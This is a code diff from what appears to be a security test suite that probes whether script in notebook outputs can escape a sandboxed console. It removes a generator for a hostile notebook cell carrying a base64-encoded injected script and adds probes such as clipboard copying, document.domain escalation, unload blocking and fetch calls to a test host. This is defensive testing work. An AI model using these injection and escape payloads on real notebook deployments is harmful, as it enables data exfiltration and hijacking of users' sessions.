@@ -76,29 +76,26 @@ export const OUTPUT_ONLY: readonly string[] = ["markdown-image", "image-url"]
 
 /**
  * What would still work if a script of a notebook ran, which none does: browsers offer no way to refuse it.
- * The console takes no cookie but its own `__Host-` ones and listens to no message.
+ * The console takes no cookie but its own `__Host-` ones and listens to no message. Copying by a command and
+ * printing need the person's own hand, as Ctrl+C and Ctrl+P do. A message shows whose it is, and Lab asks
+ * before unsaved work is left.
  */
-export const NEEDS_SCRIPT: readonly string[] = ["parent-cookie", "post-message"]
+export const NEEDS_SCRIPT: readonly string[] = [
+  ...["parent-cookie", "post-message", "copy-command", "print", "alert", "before-unload"],
+]
 
-/** Python that shows all of it as outputs of one cell. */
-export function hostileCell(aim: Aim, dns: string, script: string): string {
-  const { base } = aim
-  const html = `${markup(aim, dns)}\n<script>${script}</script>`
-  const text = Buffer.from(html).toString("base64")
-  return [
-    "import base64",
-    "from IPython.display import HTML, Image, Markdown, display",
-    `display(Markdown("![x](${base}/markdown-image) <img src='${base}/markdown-html'>"))`,
-    `display(Image(url="${base}/image-url"))`,
-    `display(HTML(base64.b64decode("${text}").decode()))`,
-  ].join("\n")
-}
+/** What the browser itself refuses any frame of another origin: tried with our controls off too. */
+export const REFUSED_ANYWHERE: readonly string[] = ["document-domain"]
 
 /** Attempts that need script but leave the page where it is: name → source of a function. */
 export function scripts({ base, stun, other, domain }: Aim): Record<string, string> {
   return {
     // First, because it needs the focus that popups take.
     "clipboard-write": `() => navigator.clipboard.writeText("gh").then(() => top.postMessage({ gh: "clipboard-write" }, "*"))`,
+    "copy-command": `() => { const t = document.createElement("textarea"); t.value = "gh"; document.body.append(t); t.select(); if (document.execCommand("copy")) top.postMessage({ gh: "copy-command" }, "*") }`,
+    print: `() => { addEventListener("beforeprint", () => top.postMessage({ gh: "print" }, "*")); print() }`,
+    alert: `() => alert("gh")`,
+    "document-domain": `() => { document.domain = "${domain}"; top.document.title; top.postMessage({ gh: "document-domain" }, "*") }`,
     fetch: `() => fetch("${base}/fetch")`,
     "fetch-post": `() => fetch("${base}/fetch-post", { method: "POST", mode: "no-cors", body: "x" })`,
     "fetch-keepalive": `() => fetch("${base}/fetch-keepalive", { keepalive: true, mode: "no-cors" })`,
@@ -150,6 +147,7 @@ export function departures(base: string, other: string): Record<string, string> 
     "self-navigation": `location.href = "${base}/self-navigation.html"`,
     "self-form": `{ const o = document.createElement("form"); o.action = "${base}/self-form.html"; document.body.append(o); o.submit() }`,
     "meta-refresh": `{ const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${base}/meta-refresh.html"; document.head.append(m) }`,
+    "before-unload": `addEventListener("beforeunload", (left) => left.preventDefault()); location.reload()`,
     "top-navigation": `top.location.href = "${base}/top-navigation.html"`,
     "other-navigation": `location.href = "${other}/lab/tree/x"`,
   }
